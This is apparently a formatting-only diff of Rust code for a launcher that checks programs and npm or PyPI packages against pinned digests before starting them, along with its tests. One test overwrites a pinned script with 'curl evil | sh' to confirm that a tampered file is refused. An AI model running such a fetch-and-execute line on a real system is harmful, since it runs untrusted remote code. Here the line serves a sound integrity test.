@@ -14,7 +14,9 @@ use registry::{Artifact, CommandSource, Integrity};
 /// Why a launch was refused.
 #[derive(Debug, thiserror::Error)]
 pub(crate) enum LaunchError {
-    #[error("`{what}` does not match its pinned digest: pinned {pinned}, found {found}; not started")]
+    #[error(
+        "`{what}` does not match its pinned digest: pinned {pinned}, found {found}; not started"
+    )]
     Mismatch {
         what: String,
         pinned: String,
@@ -121,7 +123,10 @@ async fn npm_tarball(
 ) -> Result<PathBuf, LaunchError> {
     let spec = format!("{name}@{version}");
     let dir = cache.join("npm");
-    let file = dir.join(format!("{}-{version}.tgz", name.trim_start_matches('@').replace('/', "-")));
+    let file = dir.join(format!(
+        "{}-{version}.tgz",
+        name.trim_start_matches('@').replace('/', "-")
+    ));
     if !file.exists() {
         let staging = tempdir_in(&dir).map_err(|e| LaunchError::Fetch(spec.clone(), e))?;
         let out = launcher("npm", cache)
@@ -212,7 +217,10 @@ async fn pypi_env(
             .await
             .map_err(|e| LaunchError::Fetch(spec.clone(), e.to_string()))?;
         if !(made.success() && installed.success()) {
-            return Err(LaunchError::Fetch(spec, "installing into the virtual environment failed".into()));
+            return Err(LaunchError::Fetch(
+                spec,
+                "installing into the virtual environment failed".into(),
+            ));
         }
         std::fs::write(venv.join("installed"), &integrity.text)
             .map_err(|e| LaunchError::Fetch(spec.clone(), e.to_string()))?;
@@ -223,7 +231,8 @@ async fn pypi_env(
 fn tempdir_in(dir: &Path) -> Result<PathBuf, String> {
     std::fs::create_dir_all(dir).map_err(|e| format!("cannot create {}: {e}", dir.display()))?;
     let staging = dir.join(format!(".fetch-{}", hex::encode(rand::random::<[u8; 8]>())));
-    std::fs::create_dir(&staging).map_err(|e| format!("cannot create {}: {e}", staging.display()))?;
+    std::fs::create_dir(&staging)
+        .map_err(|e| format!("cannot create {}: {e}", staging.display()))?;
     Ok(staging)
 }
 
@@ -274,32 +283,67 @@ mod tests {
         let dir = tempfile::tempdir().unwrap();
         let prog = dir.path().join("server");
         std::fs::write(&prog, b"#!/bin/sh\nexit 0\n").unwrap();
-        let good = format!("sha256:{}", hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"#!/bin/sh\nexit 0\n")));
+        let good = format!(
+            "sha256:{}",
+            hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
+                b"#!/bin/sh\nexit 0\n"
+            ))
+        );
         let p = prog.display().to_string();
-        assert!(command(&source(&p, &good), dir.path(), registry::Profile::Production).await.is_ok());
+        assert!(
+            command(
+                &source(&p, &good),
+                dir.path(),
+                registry::Profile::Production
+            )
+            .await
+            .is_ok()
+        );
         // The file changes after it was pinned.
         std::fs::write(&prog, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
-        let err = command(&source(&p, &good), dir.path(), registry::Profile::Production)
-            .await
-            .unwrap_err();
+        let err = command(
+            &source(&p, &good),
+            dir.path(),
+            registry::Profile::Production,
+        )
+        .await
+        .unwrap_err();
         assert!(matches!(err, LaunchError::Mismatch { .. }), "{err}");
         assert!(err.to_string().contains(&good), "{err}");
         // A missing file is an error too, never a launch.
         let gone = dir.path().join("gone").display().to_string();
-        assert!(command(&source(&gone, &good), dir.path(), registry::Profile::Production).await.is_err());
+        assert!(
+            command(
+                &source(&gone, &good),
+                dir.path(),
+                registry::Profile::Production
+            )
+            .await
+            .is_err()
+        );
     }
 
     #[tokio::test]
     async fn unpinned_programs_run_only_in_development() {
         let src = CommandSource {
             program: "/bin/true".into(),
-            artifact: Artifact::Unpinned { program: "/bin/true".into() },
+            artifact: Artifact::Unpinned {
+                program: "/bin/true".into(),
+            },
             args: vec![],
             env: Default::default(),
             cwd: None,
         };
         let dir = tempfile::tempdir().unwrap();
-        assert!(command(&src, dir.path(), registry::Profile::Production).await.is_err());
-        assert!(command(&src, dir.path(), registry::Profile::Development).await.is_ok());
+        assert!(
+            command(&src, dir.path(), registry::Profile::Production)
+                .await
+                .is_err()
+        );
+        assert!(
+            command(&src, dir.path(), registry::Profile::Development)
+                .await
+                .is_ok()
+        );
     }
 }
